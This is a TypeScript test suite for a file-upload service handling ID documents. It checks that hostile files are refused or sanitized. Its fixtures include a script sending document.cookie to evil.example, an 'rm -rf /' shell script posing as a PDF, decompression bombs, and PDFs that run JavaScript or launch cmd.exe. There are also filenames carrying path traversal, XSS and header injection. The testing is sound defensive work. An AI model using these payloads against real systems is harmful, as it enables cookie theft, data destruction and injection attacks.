import { randomBytes } from 'node:crypto';
import { crc32 as crc, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { aCustomer, type Session } from '#test/accounts.ts';
import { aPdf } from '#test/pdfs.ts';
import { openTestApp, type TestApp } from '#test/test-app.ts';
import { aPicture, open, pixelsOf, saveProfile, type Upload } from '#test/uploads.ts';
import { rewritePdf } from './rewrite-pdf.ts';

const megabyte = 1_048_576;
const wrongType = 'Only JPG, PNG, or PDF files are allowed.';
const tooLarge = 'File too large. Max allowed size is 1MB.';
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('-');
const html = '<html><script>fetch("//evil.example/"+document.cookie)</script></html>';

let testApp: TestApp;
let asha: Session;
beforeAll(async () => {
  testApp = await openTestApp({ jobs: true });
  asha = await aCustomer(testApp, 'asha@dosaplaza.in', 'Asha Rao');
});
afterAll(() => testApp.close());

const upload = (bytes: Buffer | string, more: Partial<Upload> = {}): Upload => ({ bytes: Buffer.from(bytes), ...more });
const halfOf = (bytes: Buffer) => bytes.subarray(0, bytes.length / 2);
const script = '<< /S /JavaScript /JS (app.alert(1)) >>';

/** A JPEG whose header has another size than its data. */
async function falselySized({
  width,
  height,
  progressive = false,
}: {
  width?: number;
  height?: number;
  progressive?: boolean;
}) {
  const bytes = await sharp(await aPicture('jpeg', 64, 48))
    .jpeg({ progressive })
    .toBuffer();
  for (let at = 2; at < bytes.length; at += 2 + bytes.readUInt16BE(at + 2)) {
    const marker = bytes[at + 1] ?? 0;
    if (marker < 0xc0 || marker > 0xc2) continue;
    if (height) bytes.writeUInt16BE(height, at + 5);
    if (width) bytes.writeUInt16BE(width, at + 7);
    break;
  }
  return bytes;
}

/** A decompression bomb: a small file, an enormous picture. */
function pixelBomb(side: number, height = side): Buffer {
  const chunk = (kind: string, data: Buffer) => {
    const size = Buffer.alloc(4);
    size.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(kind), data]);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc(body));
    return Buffer.concat([size, body, sum]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  const row = Buffer.alloc(1 + Math.ceil(side / 8));
  const data = deflateSync(Buffer.concat(Array.from({ length: height }, () => row)), { level: 9 });
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))]);
}

describe('refused', () => {
  const aPage = aPdf();
  const refused: [what: string, file: () => Upload | Promise<Upload>, status: number, message: string | RegExp][] = [
    ['HTML that calls itself PNG', () => upload(html), 400, wrongType],
    [
      'SVG that calls itself PNG',
      () => upload(`<svg xmlns="http://www.w3.org/2000/svg">${html}</svg>`),
      400,
      wrongType,
    ],
    [
      'SVG with an XML head',
      () => upload('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
      400,
      wrongType,
    ],
    [
      'a GIF',
      () => upload('R0lGODlhAQABAAAAACw=', { bytes: Buffer.from('R0lGODlhAQABAAAAACw=', 'base64') }),
      400,
      wrongType,
    ],
    ['a GIF that goes on as PDF', () => upload(Buffer.concat([Buffer.from('GIF89a'), aPage])), 400, wrongType],
    [
      'a WebP',
      async () =>
        upload(
          await sharp(await aPicture())
            .webp()
            .toBuffer(),
        ),
      400,
      wrongType,
    ],
    [
      'a TIFF',
      async () =>
        upload(
          await sharp(await aPicture())
            .tiff()
            .toBuffer(),
        ),
      400,
      wrongType,
    ],
    ['a ZIP', () => upload(Buffer.concat([Buffer.from('PK\u0003\u0004'), randomBytes(400)])), 400, wrongType],
    [
      'a Windows program named .jpg',
      () => upload(Buffer.concat([Buffer.from('MZ'), randomBytes(400)]), { name: 'a.jpg' }),
      400,
      wrongType,
    ],
    [
      'a shell script named .pdf',
      () => upload('#!/bin/sh\nrm -rf /\n', { name: 'a.pdf', type: 'application/pdf' }),
      400,
      wrongType,
    ],
    ['EICAR', () => upload(eicar, { name: 'eicar.png' }), 400, wrongType],
    [
      'EICAR that calls itself PDF',
      () => upload(eicar, { name: 'eicar.pdf', type: 'application/pdf' }),
      400,
      wrongType,
    ],
    ['nothing at all', () => upload(''), 400, 'This file is empty.'],
    [
      '1 MB and one byte',
      async () => upload(Buffer.concat([await aPicture(), Buffer.alloc(megabyte + 1)]).subarray(0, megabyte + 1)),
      413,
      tooLarge,
    ],
    ['5 MB', () => upload(Buffer.alloc(5 * megabyte, 1)), 413, tooLarge],
    ['a PNG of 256 million pixels', () => upload(pixelBomb(16_000)), 400, /could not be read/],
    ['a PNG of one pixel in 24 million rows', () => upload(pixelBomb(1, 24_000_000)), 400, /could not be read/],
    [
      'a JPEG that says it is taller',
      async () => upload(await falselySized({ height: 2_000 })),
      400,
      /could not be read/,
    ],
    [
      'a JPEG that says it is wider',
      async () => upload(await falselySized({ width: 2_000 })),
      400,
      /could not be read/,
    ],
    [
      'a progressive JPEG that says it is taller',
      async () => upload(await falselySized({ height: 2_000, progressive: true })),
      400,
      /could not be read/,
    ],
    [
      'half of a JPEG with an end',
      async () => upload(Buffer.concat([halfOf(await aPicture('jpeg', 300, 300)), Buffer.from([0xff, 0xd9])])),
      400,
      /could not be read/,
    ],
    ['the first half of a PNG', async () => upload(halfOf(await aPicture('png', 300, 300))), 400, /could not be read/],
    [
      'the first half of a JPEG',
      async () => upload(halfOf(await aPicture('jpeg', 300, 300))),
      400,
      /could not be read/,
    ],
    [
      'PNG’s first bytes and then noise',
      () => upload(Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), randomBytes(500)])),
      400,
      /allowed|could not be read/,
    ],
    [
      'PDF’s first bytes and then noise',
      () => upload(Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(500)])),
      400,
      /could not be read/,
    ],
    ['the first half of a PDF', () => upload(halfOf(aPage)), 400, /could not be read/],
    ['a PDF with a web page after its end', () => upload(aPdf({ after: html })), 400, /could not be read/],
    ['a PDF with a script', () => upload(aPdf({ catalogue: `/OpenAction ${script}` })), 400, /scripts or other files/],
    [
      'a PDF with a script in another object',
      () => upload(aPdf({ catalogue: '/OpenAction 4 0 R', objects: [script] })),
      400,
      /scripts/,
    ],
    [
      'a PDF whose script is spelled with #',
      () => upload(aPdf({ objects: ['<< /S /J#61va#53cript /J#53 (x) >>'] })),
      400,
      /scripts/,
    ],
    ['a PDF with a script in an object stream', () => upload(aPdf({ packed: [script] })), 400, /scripts/],
    [
      'a PDF whose object stream is spelled with #',
      () => upload(aPdf({ packed: [script], packedAs: '/Type /Obj#53tm /Filter /Fl#61teDecode' })),
      400,
      /scripts/,
    ],
    [
      'a PDF whose object stream is packed oddly',
      () => upload(aPdf({ packed: ['<< >>'], packedAs: '/Type /ObjStm /Filter [/ASCIIHexDecode /Crypt]' })),
      400,
      /could not be read/,
    ],
    [
      'a PDF whose object stream is scrambled',
      () => upload(aPdf({ packed: [script], packedAs: '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]' })),
      400,
      /could not be read/,
    ],
    [
      'a PDF whose object stream has a filter by the short key',
      () => upload(aPdf({ packed: [script], packedAs: '/Type /ObjStm /F /AHx' })),
      400,
      /could not be read|scripts/,
    ],
    ['a PDF that prints', () => upload(aPdf({ catalogue: '/OpenAction <</S/GoTo/S/Named/N/Print>>' })), 400, /scripts/],
    [
      'a PDF made to be slow',
      () => upload(aPdf({ packed: [`[${'<< /A 1 >>'.repeat(9_000_000)}]`] })),
      400,
      /too complicated/,
    ],
    ['a PDF that starts a program', () => upload(aPdf({ objects: ['<< /S /Launch /F (cmd.exe) >>'] })), 400, /scripts/],
    [
      'a PDF with a file inside',
      () => upload(aPdf({ catalogue: '/Names << /EmbeddedFiles 4 0 R >>', objects: ['<< >>'] })),
      400,
      /scripts/,
    ],
    [
      'a PDF with a file inside, by its other name',
      () => upload(aPdf({ objects: ['<< /Type /Filespec /EF << /F 5 0 R >> >>'] })),
      400,
      /scripts/,
    ],
    ['a PDF with a scripted form', () => upload(aPdf({ catalogue: '/AcroForm << /XFA 4 0 R >>' })), 400, /scripts/],
    [
      'a PDF that sends a form away',
      () => upload(aPdf({ objects: ['<< /S /SubmitForm /F (//evil.example) >>'] })),
      400,
      /scripts/,
    ],
    ['a PDF with a password', () => upload(aPdf({ trailer: '/Encrypt 4 0 R' })), 400, /locked with a password/],
    [
      'a PDF that unpacks to 100 MB',
      () => upload(aPdf({ packed: [`(${'a'.repeat(100_000_000)})`] })),
      400,
      /too complicated/,
    ],
  ];

  test.each(refused)('%s', async (_what, file, status, message) => {
    const answer = await saveProfile(testApp, asha, { panCard: await file() });
    expect([answer.status, answer.body.message]).toEqual([
      status,
      typeof message === 'string' ? message : expect.stringMatching(message),
    ]);
    expect(answer.body.fields).toEqual({ panCard: answer.body.message });
    expect(await testApp.db.selectFrom('documents').select('id').execute()).toEqual([]);
  });

  test('a PDF as the photo', async () => {
    const answer = await saveProfile(testApp, asha, { profilePhoto: upload(aPage) });
    expect([answer.status, answer.body.code]).toEqual([400, 'photo_type']);
  });
});

describe('sanitized', () => {
  test('a JPEG with an appended web page comes back as the picture alone', async () => {
    const picture = await aPicture('jpeg');
    const { body } = await saveProfile(testApp, asha, { panCard: upload(Buffer.concat([picture, Buffer.from(html)])) });
    const opened = await open(testApp, body.user.panCard, asha);
    expect(opened.bytes.includes('evil.example')).toBe(false);
    expect((await pixelsOf(opened.bytes)).width).toBe(60);
  });

  test('a JPEG with an appended archive is no archive any more', async () => {
    const jar = Buffer.concat([
      await aPicture('jpeg'),
      Buffer.from('PK\u0003\u0004'),
      randomBytes(300),
      Buffer.from('PK\u0005\u0006'),
    ]);
    const { body } = await saveProfile(testApp, asha, { panCard: upload(jar) });
    expect((await open(testApp, body.user.panCard, asha)).bytes.includes('PK\u0005\u0006')).toBe(false);
  });

  test('EXIF data are removed and the photo is upright', async () => {
    const exif = {
      IFD0: { Make: 'Nokia', ImageDescription: '<script>alert(1)</script>' },
      IFD3: { GPSLatitude: '28/1 38/1 0/1' },
    };
    const taken = await sharp(await aPicture('jpeg'))
      .withExif(exif)
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer();
    const { body } = await saveProfile(testApp, asha, { profilePhoto: upload(taken) });
    const { bytes } = await open(testApp, body.user.profilePhoto, asha);
    const { width, height, exif: left } = await sharp(bytes).metadata();
    expect([width, height, left]).toEqual([40, 60, undefined]);
    expect(bytes.includes('Nokia')).toBe(false);
  });

  test.each([
    ['a plain one', aPdf(), '/MediaBox'],
    ['with compressed objects', aPdf({ packed: ['(hi-IN)', '[1 2 3]'], catalogue: '/Lang 100 0 R' }), '(hi-IN)'],
    ['with a page to begin at', aPdf({ catalogue: '/OpenAction [3 0 R /Fit]' }), '/OpenAction'],
    [
      'with a page to begin at, elsewhere',
      aPdf({ catalogue: '/OpenAction 4 0 R', objects: ['[3 0 R /XYZ null null 0]'] }),
      '/XYZ',
    ],
    ['with spaces after its end', aPdf({ after: '\r\n\0\0' }), '/MediaBox'],
  ])('a PDF is stored as it was written anew: %s', async (_what, pdf, kept) => {
    const { body } = await saveProfile(testApp, asha, { aadharCard: upload(pdf) });
    const { bytes, headers } = await open(testApp, body.user.aadharCard, asha);
    expect(await rewritePdf(pdf)).toEqual({ bytes });
    expect(headers.get('content-length')).toBe(String(bytes.length));
    expect(bytes.toString('latin1')).toContain(kept);
  });

  test.each([
    ['an object stream that does not say so', aPdf({ packed: [script], packedAs: '/Filter /FlateDecode' })],
    [
      'differences of rows in it',
      aPdf({ packed: [script], packedAs: '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>' }),
    ],
    ['an object that nothing refers to', aPdf({ objects: ['(unused)'] })],
  ])('a PDF comes back without %s', async (_what, pdf) => {
    const { body } = await saveProfile(testApp, asha, { panCard: upload(pdf) });
    expect({ bytes: (await open(testApp, body.user.panCard, asha)).bytes }).toEqual(await rewritePdf(aPdf()));
  });

  test.each([
    ['a.php.png', 'a.php.png'],
    ['aadhaar.png\u0000.html', 'aadhaar.png.png'],
    ['\u202egnp.exe', 'gnp.png'],
    ['../../../etc/passwd.png', 'passwd.png'],
    ['C:\\Users\\asha\\pan.PNG', 'pan.png'],
    ['<img src=x onerror=alert(1)>.png', 'img src=x onerror=alert(1).png'],
    ['....', 'PAN card.png'],
    ['my %22pan%22 card.png', 'my pan card.png'],
    ['pan%0D%0AX-Evil: 1.png', 'panX-Evil 1.png'],
    ['100%25 mine %41.png', '100%25 mine %41.png'],
    ['पैन कार्ड.png', 'पैन कार्ड.png'],
  ])('the name %j is shown as %j', async (name, shown) => {
    const { body } = await saveProfile(testApp, asha, { panCard: upload(await aPicture(), { name }) });
    expect(body.papers?.find(({ kind }) => kind === 'panCard')?.fileName ?? body).toBe(shown);
  });

  test('a name of five thousand letters is cut', async () => {
    const { body } = await saveProfile(testApp, asha, {
      panCard: upload(await aPicture(), { name: `${'n'.repeat(5_000)}.png` }),
    });
    expect(body.papers.find(({ kind }) => kind === 'panCard')?.fileName).toBe(`${'n'.repeat(80)}.png`);
  });

  test('a PNG named .pdf is stored and opened as PNG', async () => {
    const { body } = await saveProfile(testApp, asha, {
      panCard: upload(await aPicture(), { name: 'a.pdf', type: 'application/pdf' }),
    });
    const { headers } = await open(testApp, body.user.panCard, asha);
    expect([headers.get('content-type'), headers.get('x-content-type-options')]).toEqual(['image/png', 'nosniff']);
  });
});

describe('accepted', () => {
  test('a PNG, pixel by pixel', async () => {
    const picture = await aPicture('png', 640, 480);
    const { body } = await saveProfile(testApp, asha, { aadharCard: upload(picture) });
    expect(body.message).toBe('Profile updated successfully!');
    expect(await pixelsOf((await open(testApp, body.user.aadharCard, asha)).bytes)).toEqual(await pixelsOf(picture));
  });

  test('a JPEG, with no visible difference', async () => {
    const smooth = await sharp({ create: { width: 400, height: 300, channels: 3, background: '#b93e06' } })
      .jpeg()
      .toBuffer();
    const { body } = await saveProfile(testApp, asha, { aadharCard: upload(smooth) });
    const before = await pixelsOf(smooth);
    const after = await pixelsOf((await open(testApp, body.user.aadharCard, asha)).bytes);
    expect([after.width, after.height]).toEqual([400, 300]);
    expect(after.data.findIndex((value, at) => Math.abs(value - (before.data[at] ?? 0)) > 3)).toBe(-1);
  });

  test('exactly 1 MB', async () => {
    const pdf = aPdf();
    const padded = aPdf({ objects: [`(${'x'.repeat(megabyte - pdf.length)})`] });
    const exact = aPdf({ objects: [`(${'x'.repeat(megabyte - pdf.length - (padded.length - megabyte))})`] });
    expect(exact.length).toBe(megabyte);
    expect((await saveProfile(testApp, asha, { panCard: upload(exact) })).status).toBe(200);
  });
});

test('a dozen large pictures at once are decoded in turn', async () => {
  const heavy = upload(
    await sharp({ create: { width: 4_900, height: 4_900, channels: 3, background: '#0f6b4f' } })
      .png()
      .toBuffer(),
  );
  const users = [asha];
  for (let other = 1; other < 12; other += 1) users.push(await aCustomer(testApp, `heavy-${other}@dosaplaza.in`));
  const answers = await Promise.all(users.map((user) => saveProfile(testApp, user, { panCard: heavy })));
  expect(answers.map(({ status }) => status)).toEqual(Array(12).fill(200));
});

test('one account has three files inspected at most; more is refused, and another user is served', async () => {
  const bela = await aCustomer(testApp, 'bela@dosaplaza.in');
  const heavy = upload(aPdf({ packed: ['#41'.repeat(20_000_000)] }));
  const flood = Array.from({ length: 20 }, () => saveProfile(testApp, asha, { panCard: heavy }));
  const other = await saveProfile(testApp, bela, { panCard: upload(await aPicture()) });
  const codes = (await Promise.all(flood)).map(({ status }) => status);
  expect(other.status).toBe(200);
  expect(codes).toContain(429);
});
